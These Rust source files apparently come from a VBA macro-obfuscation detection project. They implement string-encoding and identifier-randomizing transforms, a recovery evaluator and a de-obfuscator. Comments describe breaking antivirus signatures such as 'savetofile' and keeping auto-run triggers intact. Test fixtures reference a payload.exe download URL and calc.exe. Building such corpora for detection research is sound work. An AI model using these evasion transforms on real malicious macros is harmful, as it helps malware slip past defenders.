//! 1. built-in functions — `Replace("savteRKtofilteRK", "teRK", "e")`;
//! 2. character encoding — `Chr(104) & Chr(105)` / `Chr(&H68)`;
//! 3. user-defined decoders — `DecodeArray(Array(1878, 1890, …))` with the
//!    decoder function appended to the module.

use crate::split::attribute_line_spans;
use rand::Rng;
use std::collections::HashSet;
use vbadet_vba::{tokenize, TokenKind};

/// Which encoding scheme was applied to a literal.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Scheme {
    /// `Replace(encoded, marker, original_char)`.
    Replace,
    /// `Chr(n) & Chr(n) & …` concatenation.
    ChrConcat,
    /// User-defined `DecodeArray(Array(...))` with an additive key.
    DecoderFunction,
}

/// Applies O3 to `source`: every string literal of length >= 3 outside
/// `Attribute` lines is replaced by a decoding expression.
pub fn apply<R: Rng + ?Sized>(source: &str, rng: &mut R) -> String {
    apply_limited(source, usize::MAX, rng)
}

/// Applies O3 to at most `limit` eligible literals (longest first).
pub fn apply_limited<R: Rng + ?Sized>(source: &str, limit: usize, rng: &mut R) -> String {
    let tokens = tokenize(source);
    let attribute_lines = attribute_line_spans(source);
    let mut taken: HashSet<String> = HashSet::new();
    // One decoder function per module, shared by all DecoderFunction uses.
    let decoder_name = crate::names::random_identifier(rng, &mut taken);
    let key: u32 = rng.gen_range(100..2000);
    let mut used_decoder = false;

    let mut eligible: Vec<&vbadet_vba::Token> = tokens
        .iter()
        .filter(|t| {
            if let TokenKind::StringLit(value) = &t.kind {
                value.chars().count() >= 3
                    && value.is_ascii()
                    && !attribute_lines
                        .iter()
                        .any(|&(s, e)| t.start >= s && t.end <= e)
            } else {
                false
            }
        })
        .collect();
    eligible.sort_by_key(|t| std::cmp::Reverse(t.end - t.start));
    eligible.truncate(limit);
    eligible.sort_by_key(|t| t.start);

    let mut edits: Vec<(usize, usize, String)> = Vec::new();
    for t in eligible {
        let TokenKind::StringLit(value) = &t.kind else {
            continue;
        };
        // Replace-style dominates in the wild: it is the cheapest transform
        // and uses only one builtin call per string.
        let scheme = match rng.gen_range(0..100) {
            0..=44 => Scheme::Replace,
            45..=64 => Scheme::ChrConcat,
            _ => Scheme::DecoderFunction,
        };
        let expr = match scheme {
            Scheme::Replace => encode_replace(value, rng),
            Scheme::ChrConcat => encode_chr_concat(value, rng),
            Scheme::DecoderFunction => {
                used_decoder = true;
                encode_decoder(value, &decoder_name, key)
            }
        };
        match expr {
            Some(expr) => edits.push((t.start, t.end, expr)),
            None => continue,
        }
    }

    let mut out = source.to_string();
    for (start, end, replacement) in edits.into_iter().rev() {
        out.replace_range(start..end, &replacement);
    }

    if used_decoder {
        out.push_str(&decoder_function(&decoder_name, key));
    }
    out
}

/// Scheme 1: substitute the most frequent characters of the value with
/// random markers, emitting nested `Replace(Replace(…), marker, char)`
/// calls. Attackers target the characters that break signature substrings
/// (the paper's Figure 4a replaces `e`, defeating the "savetofile"
/// signature), which the frequency heuristic approximates. Returns `None`
/// when no usable character exists.
fn encode_replace<R: Rng + ?Sized>(value: &str, rng: &mut R) -> Option<String> {
    // Rank ASCII-alphanumeric characters by frequency, most common first.
    let mut freq: std::collections::BTreeMap<char, usize> = std::collections::BTreeMap::new();
    for c in value.chars().filter(|c| c.is_ascii_alphanumeric()) {
        *freq.entry(c).or_insert(0) += 1;
    }
    if freq.is_empty() {
        return None;
    }
    let mut targets: Vec<(char, usize)> = freq.into_iter().collect();
    targets.sort_by_key(|&(c, n)| (std::cmp::Reverse(n), c));
    let passes = rng.gen_range(2..=3).min(targets.len());

    let mut encoded = value.to_string();
    let mut wrappers: Vec<(String, char)> = Vec::new(); // application order
    'outer: for (step, &(target, _)) in targets.iter().take(passes).enumerate() {
        // Targets that later passes will still substitute: this marker must
        // not contain them, or those passes would corrupt it in place.
        let upcoming: Vec<char> = targets
            .iter()
            .take(passes)
            .skip(step + 1)
            .map(|&(c, _)| c)
            .collect();
        for _ in 0..16 {
            let marker: String = (0..rng.gen_range(3..=5))
                .map(|_| {
                    let c = if rng.gen_bool(0.5) {
                        b'a' + rng.gen_range(0u8..26)
                    } else {
                        b'A' + rng.gen_range(0u8..26)
                    };
                    c as char
                })
                .collect();
            // Decoding must be exact: the marker must not already occur in
            // the encoded text, must not contain its own target, must avoid
            // upcoming targets, and must not collide with earlier markers.
            if !encoded.contains(&marker)
                && !marker.contains(target)
                && !upcoming.iter().any(|&p| marker.contains(p))
                && !wrappers
                    .iter()
                    .any(|(m, _)| m.contains(&marker) || marker.contains(m.as_str()))
            {
                encoded = encoded.replace(target, &marker);
                wrappers.push((marker, target));
                continue 'outer;
            }
        }
        // Could not find a safe marker for this target; stop stacking.
        break;
    }
    if wrappers.is_empty() {
        return None;
    }
    // Innermost literal, wrapped outside-in in reverse application order:
    // the LAST substitution applied must be undone FIRST.
    let mut expr = format!("\"{}\"", encoded.replace('"', "\"\""));
    for (marker, target) in wrappers.into_iter().rev() {
        expr = format!("Replace({expr}, \"{marker}\", \"{target}\")");
    }
    Some(expr)
}

/// Joins expression pieces, wrapping with VBA line continuations (` _`)
/// every `chunk` pieces — the layout obfuscators emit so generated
/// expressions do not become kilometer-long physical lines.
fn join_wrapped(parts: &[String], sep: &str, chunk: usize) -> String {
    let mut out = String::new();
    for (i, part) in parts.iter().enumerate() {
        if i > 0 {
            out.push_str(sep);
            if i % chunk == 0 {
                out.push_str("_\r\n        ");
            }
        }
        out.push_str(part);
    }
    out
}

/// Scheme 2: `Chr(104) & Chr(&H69) & …` — mixed decimal/hex spellings,
/// continuation-wrapped.
fn encode_chr_concat<R: Rng + ?Sized>(value: &str, rng: &mut R) -> Option<String> {
    let mut parts = Vec::with_capacity(value.len());
    for b in value.bytes() {
        if rng.gen_bool(0.5) {
            parts.push(format!("Chr({b})"));
        } else {
            parts.push(format!("Chr(&H{b:X})"));
        }
    }
    let chunk = rng.gen_range(6..14);
    Some(join_wrapped(&parts, " & ", chunk))
}

/// Scheme 3: number array + user-defined decoder, as in Figure 4(b),
/// continuation-wrapped.
fn encode_decoder(value: &str, decoder_name: &str, key: u32) -> Option<String> {
    let numbers: Vec<String> = value
        .bytes()
        .map(|b| (b as u32 + key).to_string())
        .collect();
    Some(format!(
        "{decoder_name}(Array({}))",
        join_wrapped(&numbers, ", ", 16)
    ))
}

/// The decoder function source appended to the module.
fn decoder_function(name: &str, key: u32) -> String {
    format!(
        "\r\nFunction {name}(arr)\r\n\
             Dim buf As String\r\n\
             Dim idx As Integer\r\n\
             For idx = LBound(arr) To UBound(arr)\r\n\
                 buf = buf & Chr(arr(idx) - {key})\r\n\
             Next idx\r\n\
             {name} = buf\r\n\
         End Function\r\n"
    )
}

/// Re-exported for [`crate::recover`]: evaluates the decoder scheme given
/// the array argument values and key.
pub(crate) fn decode_array(values: &[u32], key: u32) -> Option<String> {
    values
        .iter()
        .map(|&v| v.checked_sub(key).and_then(char::from_u32))
        .collect::<Option<String>>()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::recover;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    const SRC: &str = "Sub Fetch()\r\n\
        u = \"http://example.test/payload.exe\"\r\n\
        p = \"savetofile\"\r\n\
        End Sub\r\n";

    #[test]
    fn literals_are_removed() {
        for seed in 0..10 {
            let mut rng = StdRng::seed_from_u64(seed);
            let out = apply(SRC, &mut rng);
            assert!(
                !out.contains("\"http://example.test/payload.exe\""),
                "seed {seed}"
            );
            assert!(!out.contains("\"savetofile\""), "seed {seed}");
        }
    }

    #[test]
    fn all_schemes_are_recoverable() {
        for seed in 0..30 {
            let mut rng = StdRng::seed_from_u64(seed);
            let out = apply(SRC, &mut rng);
            let recovered = recover::recover_strings(&out);
            assert!(
                recovered
                    .iter()
                    .any(|s| s == "http://example.test/payload.exe"),
                "seed {seed}:\n{out}\n{recovered:?}"
            );
            assert!(recovered.iter().any(|s| s == "savetofile"), "seed {seed}");
        }
    }

    #[test]
    fn replace_scheme_decodes() {
        let mut rng = StdRng::seed_from_u64(7);
        let expr = encode_replace("savetofile", &mut rng).unwrap();
        assert!(expr.starts_with("Replace("));
        let rec = recover::recover_strings(&expr);
        assert_eq!(rec, vec!["savetofile"]);
    }

    #[test]
    fn chr_concat_decodes() {
        let mut rng = StdRng::seed_from_u64(8);
        let expr = encode_chr_concat("AB c", &mut rng).unwrap();
        let rec = recover::recover_strings(&expr);
        assert_eq!(rec, vec!["AB c"]);
    }

    #[test]
    fn decoder_array_roundtrip() {
        let expr = encode_decoder("calc.exe", "dec", 500).unwrap();
        assert!(expr.starts_with("dec(Array("));
        let nums: Vec<u32> = expr
            .trim_start_matches("dec(Array(")
            .trim_end_matches("))")
            .split(", ")
            .map(|n| n.parse().unwrap())
            .collect();
        assert_eq!(decode_array(&nums, 500).unwrap(), "calc.exe");
    }

    #[test]
    fn decoder_function_appended_once() {
        // Scheme 3 usage adds at most one decoder Function definition,
        // however many literals use it.
        for seed in 0..40 {
            let mut rng = StdRng::seed_from_u64(seed);
            let out = apply(SRC, &mut rng);
            let count = out.matches("End Function").count();
            assert!(count <= 1, "at most one decoder, got {count}");
        }
    }

    #[test]
    fn attribute_lines_untouched() {
        let src = "Attribute VB_Name = \"Module1\"\r\nx = \"abcdef\"\r\n";
        let mut rng = StdRng::seed_from_u64(3);
        let out = apply(src, &mut rng);
        assert!(out.contains("Attribute VB_Name = \"Module1\""));
        assert!(!out.contains("\"abcdef\""));
    }

    #[test]
    fn non_ascii_strings_left_alone() {
        let src = "x = \"caf\u{00E9} latte\"\r\n";
        let mut rng = StdRng::seed_from_u64(3);
        assert_eq!(apply(src, &mut rng), src);
    }
}
