//! Constant-string expression evaluator: the semantic-preservation oracle.
//!
//! Obfuscations O2 and O3 replace a literal with an expression that
//! evaluates to the same value at run time. This module statically evaluates
//! those expression shapes — literal chains joined by `&`/`+`, `Chr(n)`,
//! `Replace(e, lit, lit)`, module `Const` references and the generated
//! `DecodeArray`-style decoder — so tests can assert
//! `recover_strings(obfuscate(src)) ⊇ strings(src)`.

use std::collections::HashMap;
use vbadet_vba::{tokenize, Token, TokenKind};

/// Evaluates every maximal constant string expression in `source` and
/// returns their values, in textual order. Expressions that cannot be
/// statically evaluated are skipped.
pub fn recover_strings(source: &str) -> Vec<String> {
    recover_spans(source).into_iter().map(|r| r.value).collect()
}

/// One recovered constant string expression with its source location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecoveredString {
    /// Byte offset of the expression's first token.
    pub start: usize,
    /// Byte offset one past the expression's last token.
    pub end: usize,
    /// The statically evaluated value.
    pub value: String,
}

/// Like [`recover_strings`] but returning byte spans, so callers (the
/// deobfuscator) can splice literals back over the expressions.
pub fn recover_spans(source: &str) -> Vec<RecoveredString> {
    let tokens: Vec<Token> = tokenize(source)
        .into_iter()
        .filter(|t| !matches!(t.kind, TokenKind::Comment(_)))
        .collect();
    let consts = const_table(&tokens);
    let decoders = decoder_table(&tokens, source);

    let mut out = Vec::new();
    let mut i = 0usize;
    while i < tokens.len() {
        if starts_string_expr(&tokens, i, &consts, &decoders) {
            let mut parser = Parser {
                tokens: &tokens,
                pos: i,
                consts: &consts,
                decoders: &decoders,
            };
            if let Some(value) = parser.parse_concat() {
                out.push(RecoveredString {
                    start: tokens[i].start,
                    end: tokens[parser.pos - 1].end,
                    value,
                });
                i = parser.pos;
                continue;
            }
        }
        i += 1;
    }
    out
}

/// `Const name = "literal"` bindings (case-insensitive names).
fn const_table(tokens: &[Token]) -> HashMap<String, String> {
    let mut map = HashMap::new();
    for w in tokens.windows(4) {
        if let (
            TokenKind::Keyword(kw),
            TokenKind::Identifier(name),
            TokenKind::Operator("="),
            TokenKind::StringLit(value),
        ) = (&w[0].kind, &w[1].kind, &w[2].kind, &w[3].kind)
        {
            if kw.eq_ignore_ascii_case("const") {
                map.insert(name.to_ascii_lowercase(), value.clone());
            }
        }
    }
    map
}

/// Detects generated decoder functions of the shape produced by
/// [`crate::encoding`]: `Function NAME(arr) … Chr(arr(idx) - KEY) …` and
/// returns NAME (lowercased) -> additive key.
fn decoder_table(tokens: &[Token], source: &str) -> HashMap<String, u32> {
    let mut map = HashMap::new();
    for (i, w) in tokens.windows(2).enumerate() {
        if let (TokenKind::Keyword(kw), TokenKind::Identifier(name)) = (&w[0].kind, &w[1].kind) {
            if !kw.eq_ignore_ascii_case("function") {
                continue;
            }
            // Look ahead in raw text for "Chr(arr(idx) - KEY)" pattern until
            // the next End Function.
            let body_start = w[1].end;
            let body = &source[body_start..];
            let end = body
                .to_ascii_lowercase()
                .find("end function")
                .unwrap_or(body.len());
            let body = &body[..end];
            if let Some(pos) = body.find("- ") {
                let digits: String = body[pos + 2..]
                    .chars()
                    .take_while(|c| c.is_ascii_digit())
                    .collect();
                if let Ok(key) = digits.parse::<u32>() {
                    if body.to_ascii_lowercase().contains("chr(") {
                        map.insert(name.to_ascii_lowercase(), key);
                    }
                }
            }
            let _ = i;
        }
    }
    map
}

fn starts_string_expr(
    tokens: &[Token],
    i: usize,
    consts: &HashMap<String, String>,
    decoders: &HashMap<String, u32>,
) -> bool {
    match &tokens[i].kind {
        TokenKind::StringLit(_) => true,
        TokenKind::Identifier(name) => {
            let lower = name.to_ascii_lowercase();
            lower == "chr"
                || lower == "replace"
                || consts.contains_key(&lower)
                || decoders.contains_key(&lower)
        }
        _ => false,
    }
}

struct Parser<'a> {
    tokens: &'a [Token],
    pos: usize,
    consts: &'a HashMap<String, String>,
    decoders: &'a HashMap<String, u32>,
}

impl<'a> Parser<'a> {
    fn peek(&self) -> Option<&TokenKind> {
        self.tokens.get(self.pos).map(|t| &t.kind)
    }

    fn bump(&mut self) -> Option<&'a TokenKind> {
        let t = self.tokens.get(self.pos).map(|t| &t.kind);
        self.pos += 1;
        t
    }

    fn expect_op(&mut self, op: &str) -> Option<()> {
        match self.peek() {
            Some(TokenKind::Operator(o)) if *o == op => {
                self.pos += 1;
                Some(())
            }
            _ => None,
        }
    }

    /// concat := atom ((& | +) atom)*  — newlines terminate the expression.
    fn parse_concat(&mut self) -> Option<String> {
        let mut value = self.parse_atom()?;
        loop {
            match self.peek() {
                Some(TokenKind::Operator(op)) if *op == "&" || *op == "+" => {
                    let save = self.pos;
                    self.pos += 1;
                    match self.parse_atom() {
                        Some(next) => value.push_str(&next),
                        None => {
                            self.pos = save;
                            break;
                        }
                    }
                }
                _ => break,
            }
        }
        Some(value)
    }

    /// atom := string-literal | const-name | Chr(int) | Replace(concat, lit,
    /// lit) | decoder(Array(int, …))
    fn parse_atom(&mut self) -> Option<String> {
        match self.bump()? {
            TokenKind::StringLit(s) => Some(s.clone()),
            TokenKind::Identifier(name) => {
                let lower = name.to_ascii_lowercase();
                if let Some(value) = self.consts.get(&lower) {
                    return Some(value.clone());
                }
                if lower == "chr" || lower == "chr$" {
                    self.expect_op("(")?;
                    let n = self.parse_int()?;
                    self.expect_op(")")?;
                    return char::from_u32(n).map(String::from);
                }
                if lower == "replace" {
                    self.expect_op("(")?;
                    let hay = self.parse_concat()?;
                    self.expect_op(",")?;
                    let needle = self.parse_concat()?;
                    self.expect_op(",")?;
                    let with = self.parse_concat()?;
                    self.expect_op(")")?;
                    return Some(hay.replace(&needle, &with));
                }
                if let Some(&key) = self.decoders.get(&lower) {
                    self.expect_op("(")?;
                    // Array( n, n, … )
                    match self.bump()? {
                        TokenKind::Identifier(f) if f.eq_ignore_ascii_case("array") => {}
                        _ => return None,
                    }
                    self.expect_op("(")?;
                    let mut values = Vec::new();
                    loop {
                        values.push(self.parse_int()?);
                        if self.expect_op(",").is_none() {
                            break;
                        }
                    }
                    self.expect_op(")")?;
                    self.expect_op(")")?;
                    return crate::encoding::decode_array(&values, key);
                }
                None
            }
            _ => None,
        }
    }

    fn parse_int(&mut self) -> Option<u32> {
        match self.bump()? {
            TokenKind::Number(text) => {
                let lower = text.trim_end_matches(['&', '%', '^']).to_ascii_lowercase();
                if let Some(hex) = lower.strip_prefix("&h") {
                    u32::from_str_radix(hex, 16).ok()
                } else if let Some(oct) = lower.strip_prefix("&o") {
                    u32::from_str_radix(oct, 8).ok()
                } else {
                    lower.parse().ok()
                }
            }
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_literals() {
        assert_eq!(recover_strings("x = \"hello\""), vec!["hello"]);
    }

    #[test]
    fn concatenation_chains() {
        assert_eq!(
            recover_strings("x = \"WScr\" & \"ipt.S\" + \"hell\""),
            vec!["WScript.Shell"]
        );
    }

    #[test]
    fn chr_calls() {
        assert_eq!(recover_strings("x = Chr(72) & Chr(&H69)"), vec!["Hi"]);
    }

    #[test]
    fn replace_calls() {
        assert_eq!(
            recover_strings("Replace(\"savteRKtofilteRK\", \"teRK\", \"e\")"),
            vec!["savetofile"]
        );
    }

    #[test]
    fn nested_replace_with_concat_args() {
        assert_eq!(
            recover_strings("Replace(\"aXXb\" & \"cXX\", \"XX\", \"-\")"),
            vec!["a-bc-"]
        );
    }

    #[test]
    fn const_references() {
        let src =
            "Public Const pzonde = \"e\"\r\nCreateObject(\"WScript.Sh\" + pzonde + \"ll\")\r\n";
        let rec = recover_strings(src);
        assert!(rec.contains(&"WScript.Shell".to_string()), "{rec:?}");
    }

    #[test]
    fn decoder_functions_are_recognized() {
        let src = "u = dec(Array(600, 601, 602))\r\n\
                   Function dec(arr)\r\n\
                       Dim buf As String\r\n\
                       For idx = LBound(arr) To UBound(arr)\r\n\
                           buf = buf & Chr(arr(idx) - 500)\r\n\
                       Next idx\r\n\
                       dec = buf\r\n\
                   End Function\r\n";
        let rec = recover_strings(src);
        // 600-500='d', 601-500='e', 602-500='f'
        assert!(rec.contains(&"def".to_string()), "{rec:?}");
    }

    #[test]
    fn unevaluable_expressions_are_skipped() {
        let rec = recover_strings("x = SomeVar & \"tail\"\r\ny = \"ok\"");
        // SomeVar is unknown: only the bare literal parts are found.
        assert!(rec.contains(&"tail".to_string()));
        assert!(rec.contains(&"ok".to_string()));
    }

    #[test]
    fn newline_bounds_expressions() {
        let rec = recover_strings("x = \"a\" &\r\n nonconst\r\ny = \"b\"");
        assert!(rec.contains(&"a".to_string()));
        assert!(rec.contains(&"b".to_string()));
    }
}
