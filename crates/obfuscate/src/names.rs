//! Random identifier generation and rename-eligibility rules.

use rand::Rng;
use std::collections::HashSet;
use vbadet_vba::{functions, tokenize, TokenKind};

/// Generates a random identifier that collides with nothing in `taken`
/// (case-insensitive) and is not a VBA builtin.
///
/// Styles mirror what real obfuscators emit (cf. the paper's examples
/// `ueiwjfdjkfdsv`, `mambaFRUTIsIn`, `shfiletMurinoASALLLP`): pure random
/// lowercase, pronounceable word blends with odd casing, and alphanumeric
/// mixes.
pub fn random_identifier<R: Rng + ?Sized>(rng: &mut R, taken: &mut HashSet<String>) -> String {
    const SYLLABLES: [&str; 24] = [
        "ma", "ru", "ti", "no", "fel", "zon", "da", "ke", "lor", "mba", "fru", "si", "ve", "sal",
        "pit", "re", "co", "lu", "gan", "tor", "mi", "ne", "ba", "shi",
    ];
    loop {
        let name: String = match rng.gen_range(0..10) {
            // Pure random lowercase: "ueiwjfdjkfdsv".
            0..=4 => {
                let len = rng.gen_range(8..=16);
                (0..len)
                    .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
                    .collect()
            }
            // Pronounceable blend with random casing: "mambaFruti".
            5..=7 => {
                let mut s = String::new();
                for _ in 0..rng.gen_range(2..=4) {
                    let syllable = SYLLABLES[rng.gen_range(0..SYLLABLES.len())];
                    if rng.gen_bool(0.3) {
                        let mut cs = syllable.chars();
                        let first = cs.next().expect("non-empty").to_ascii_uppercase();
                        s.push(first);
                        s.extend(cs);
                    } else {
                        s.push_str(syllable);
                    }
                }
                s
            }
            // Alphanumeric mix: "pz0nd4xq".
            _ => {
                let len = rng.gen_range(8..=14);
                (0..len)
                    .map(|i| {
                        if i > 0 && rng.gen_bool(0.2) {
                            (b'0' + rng.gen_range(0u8..10)) as char
                        } else {
                            (b'a' + rng.gen_range(0u8..26)) as char
                        }
                    })
                    .collect()
            }
        };
        if functions::is_builtin(&name) || crate::names::is_keyword_like(&name) {
            continue;
        }
        if taken.insert(name.to_ascii_lowercase()) {
            return name;
        }
    }
}

/// Guards against generating a reserved word (possible with syllable blends).
fn is_keyword_like(name: &str) -> bool {
    vbadet_vba::tokenize(name)
        .iter()
        .any(|t| matches!(t.kind, TokenKind::Keyword(_)))
}

/// Event-handler / auto-execution names that obfuscators must keep intact:
/// renaming them would break the macro's trigger.
pub fn is_entry_point(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower.starts_with("auto")
        || lower.starts_with("document_")
        || lower.starts_with("workbook_")
        || lower.starts_with("worksheet_")
        || lower.ends_with("_click")
        || lower.ends_with("_change")
        || lower.ends_with("_open")
        || lower.ends_with("_close")
}

/// Host-application globals and objects an obfuscator cannot rename without
/// breaking the macro (lowercase, sorted for binary search).
const HOST_GLOBALS: &[&str] = &[
    "activecell",
    "activedocument",
    "activesheet",
    "activewindow",
    "activeworkbook",
    "application",
    "cells",
    "charts",
    "columns",
    "debug",
    "documents",
    "err",
    "names",
    "range",
    "rows",
    "selection",
    "sheets",
    "thisdocument",
    "thisworkbook",
    "userform1",
    "wend",
    "workbooks",
    "worksheets",
];

/// Names from `Attribute VB_...` lines and other VBA plumbing that must not
/// be touched: `VB_*` attribute names, the built-in enum constants
/// (`vbHide`, `vbCrLf`, `xlPasteValues`, …) and host-application globals
/// (`ActiveDocument`, `Application`, …) — renaming those would change
/// behaviour.
pub fn is_reserved_identifier(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower.starts_with("vb_")
        || lower.starts_with("vb")
        || lower.starts_with("xl")
        || HOST_GLOBALS.binary_search(&lower.as_str()).is_ok()
}

/// Collects the user identifiers of `source` that are safe to rename:
/// excludes builtins, entry points, `VB_*` attributes, and member-access
/// names (tokens preceded by `.`, which belong to foreign objects).
pub fn renameable_identifiers(source: &str) -> Vec<String> {
    let tokens = tokenize(source);
    let mut member_positions: HashSet<usize> = HashSet::new();
    for (i, t) in tokens.iter().enumerate() {
        if matches!(t.kind, TokenKind::Operator(".")) {
            member_positions.insert(i + 1);
        }
    }
    let mut seen: HashSet<String> = HashSet::new();
    let mut out = Vec::new();
    for (i, t) in tokens.iter().enumerate() {
        let TokenKind::Identifier(name) = &t.kind else {
            continue;
        };
        if member_positions.contains(&i)
            || functions::is_builtin(name)
            || is_entry_point(name)
            || is_reserved_identifier(name)
        {
            continue;
        }
        if seen.insert(name.to_ascii_lowercase()) {
            out.push(name.clone());
        }
    }
    out
}

/// Replaces every non-member occurrence of the identifiers in `map`
/// (case-insensitive keys) with their new names, preserving all other bytes.
pub fn apply_renames(source: &str, map: &std::collections::HashMap<String, String>) -> String {
    let tokens = tokenize(source);
    let mut member_positions: HashSet<usize> = HashSet::new();
    for (i, t) in tokens.iter().enumerate() {
        if matches!(t.kind, TokenKind::Operator(".")) {
            member_positions.insert(i + 1);
        }
    }
    // Collect (start, end, replacement) and splice back-to-front.
    let mut edits: Vec<(usize, usize, &String)> = Vec::new();
    for (i, t) in tokens.iter().enumerate() {
        if member_positions.contains(&i) {
            continue;
        }
        if let TokenKind::Identifier(name) = &t.kind {
            if let Some(new_name) = map.get(&name.to_ascii_lowercase()) {
                edits.push((t.start, t.end, new_name));
            }
        }
    }
    let mut out = source.to_string();
    for (start, end, replacement) in edits.into_iter().rev() {
        out.replace_range(start..end, replacement);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn random_identifiers_are_unique_and_well_formed() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut taken = HashSet::new();
        let names: Vec<String> = (0..500)
            .map(|_| random_identifier(&mut rng, &mut taken))
            .collect();
        let unique: HashSet<String> = names.iter().map(|n| n.to_ascii_lowercase()).collect();
        assert_eq!(unique.len(), names.len(), "case-insensitively unique");
        for n in &names {
            assert!((4..=18).contains(&n.len()), "{n}");
            assert!(n.chars().next().expect("non-empty").is_ascii_alphabetic());
            assert!(n.chars().all(|c| c.is_ascii_alphanumeric()));
            assert!(!vbadet_vba::functions::is_builtin(n));
        }
    }

    #[test]
    fn entry_points_detected() {
        for n in [
            "Document_Open",
            "Workbook_Open",
            "AutoOpen",
            "auto_close",
            "Button1_Click",
        ] {
            assert!(is_entry_point(n), "{n}");
        }
        for n in ["Main", "DownloadPayload", "helper"] {
            assert!(!is_entry_point(n), "{n}");
        }
    }

    #[test]
    fn renameable_skips_members_builtins_and_attributes() {
        let src = "Attribute VB_Name = \"Module1\"\r\n\
                   Sub Document_Open()\r\n\
                   Dim OutlookApp As Object\r\n\
                   Set OutlookApp = CreateObject(\"X\")\r\n\
                   OutlookApp.Display\r\n\
                   End Sub\r\n";
        let names = renameable_identifiers(src);
        assert!(names.contains(&"OutlookApp".to_string()));
        assert!(!names.contains(&"VB_Name".to_string()));
        assert!(!names.contains(&"Document_Open".to_string()));
        assert!(!names.contains(&"CreateObject".to_string()));
        assert!(
            !names.contains(&"Display".to_string()),
            "member access must be skipped"
        );
    }

    #[test]
    fn renames_apply_everywhere_but_members() {
        let src = "Dim v\r\nv = 1\r\nobj.v = 2\r\n";
        let mut map = std::collections::HashMap::new();
        map.insert("v".to_string(), "zzz".to_string());
        let out = apply_renames(src, &map);
        assert_eq!(out, "Dim zzz\r\nzzz = 1\r\nobj.v = 2\r\n");
    }

    #[test]
    fn rename_is_case_insensitive_on_lookup() {
        let src = "Dim Counter\r\ncounter = COUNTER + 1\r\n";
        let mut map = std::collections::HashMap::new();
        map.insert("counter".to_string(), "q".to_string());
        let out = apply_renames(src, &map);
        assert_eq!(out, "Dim q\r\nq = q + 1\r\n");
    }
}
