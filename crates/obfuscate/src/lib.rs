//! Executable VBA obfuscation transforms.
//!
//! The paper (§III.B, Table I) categorizes real-world VBA obfuscation into
//! four techniques; this crate implements each as a source-to-source
//! transform so the synthetic corpus can be labeled *by construction*:
//!
//! | # | Type | Module |
//! |---|------|--------|
//! | O1 | Random obfuscation (randomize identifiers) | [`random`] |
//! | O2 | Split obfuscation (split strings)           | [`split`] |
//! | O3 | Encoding obfuscation (encode strings)       | [`encoding`] |
//! | O4 | Logic obfuscation (insert & reorder code)   | [`logic`] |
//!
//! The §VI.B anti-analysis tricks (hiding string data, inserting broken
//! code, changing flow) live in [`anti_analysis`]; they are *not* part of
//! O1–O4 but co-occur with them in the wild.
//!
//! All transforms are deterministic given the caller's RNG, and preserve
//! program semantics: [`recover`] can re-evaluate split/encoded string
//! expressions back to their original values, which the test-suite uses as
//! the preservation invariant.
//!
//! # Examples
//!
//! ```
//! use rand::SeedableRng;
//! use vbadet_obfuscate::{Obfuscator, Technique};
//!
//! let src = "Sub Go()\r\n    x = Shell(\"calc.exe\", 1)\r\nEnd Sub\r\n";
//! let mut rng = rand::rngs::StdRng::seed_from_u64(7);
//! let out = Obfuscator::new()
//!     .with(Technique::Random)
//!     .with(Technique::Split)
//!     .apply(src, &mut rng);
//! assert!(!out.source.contains("calc.exe"), "signature string must be split");
//! ```

pub mod anti_analysis;
pub mod deobfuscate;
pub mod encoding;
pub mod logic;
mod names;
mod pipeline;
pub mod random;
pub mod recover;
pub mod split;

pub use deobfuscate::{deobfuscate, DeobfuscationReport};
pub use pipeline::{ObfuscationResult, Obfuscator, Technique};
