//! Static de-obfuscation: the analyst-aid inverse of O2/O3/O4.
//!
//! The paper's related work (§II.B) covers de-obfuscation systems such as
//! JSDES; this module provides the VBA equivalent for the transforms this
//! crate generates:
//!
//! 1. **String folding** — constant string expressions (split
//!    concatenations, `Chr` chains, `Replace` calls, decoder arrays) are
//!    statically evaluated via [`crate::recover`] and replaced with plain
//!    literals, undoing O2 and O3;
//! 2. **Dead-block removal** — `If False Then … End If` blocks (O4's dummy
//!    shields) are deleted;
//! 3. **Unused-procedure removal** — `Private Sub`/`Function` definitions
//!    never referenced elsewhere (O4's dummy helpers and orphaned decoder
//!    functions) are deleted.
//!
//! De-obfuscation cannot invert O1 (the original names are gone); it only
//! makes the surviving code readable.

use crate::recover::recover_spans;
use vbadet_vba::{tokenize, MacroAnalysis, TokenKind};

/// What a de-obfuscation pass did.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct DeobfuscationReport {
    /// The rewritten source.
    pub source: String,
    /// Constant string expressions folded to literals.
    pub folded_strings: usize,
    /// `If False` blocks removed.
    pub removed_dead_blocks: usize,
    /// Unreferenced private procedures removed.
    pub removed_procedures: usize,
}

/// Runs all passes to a fixpoint (folding strings can orphan a decoder
/// function, whose removal is picked up by the next round; bounded at 8
/// rounds as a safety stop).
pub fn deobfuscate(source: &str) -> DeobfuscationReport {
    let mut report = DeobfuscationReport {
        source: source.to_string(),
        ..Default::default()
    };
    for _ in 0..8 {
        let folded = fold_strings(&report.source);
        let dead = remove_dead_blocks(&folded.0);
        let procs = remove_unused_private_procs(&dead.0);
        let changed = folded.1 + dead.1 + procs.1;
        report.folded_strings += folded.1;
        report.removed_dead_blocks += dead.1;
        report.removed_procedures += procs.1;
        report.source = procs.0;
        if changed == 0 {
            break;
        }
    }
    report
}

/// Pass 1: replace recoverable constant string expressions with literals.
/// Expressions that are already a single plain literal are left untouched.
fn fold_strings(source: &str) -> (String, usize) {
    let spans = recover_spans(source);
    let mut out = source.to_string();
    let mut folded = 0usize;
    for r in spans.iter().rev() {
        let original = &source[r.start..r.end];
        let literal = format!("\"{}\"", r.value.replace('"', "\"\""));
        if original == literal {
            continue; // already a plain literal
        }
        // Only fold when the value is printable; control characters would
        // not survive a literal.
        if !r
            .value
            .chars()
            .all(|c| c == '\t' || (' '..='\u{FF}').contains(&c))
        {
            continue;
        }
        out.replace_range(r.start..r.end, &literal);
        folded += 1;
    }
    (out, folded)
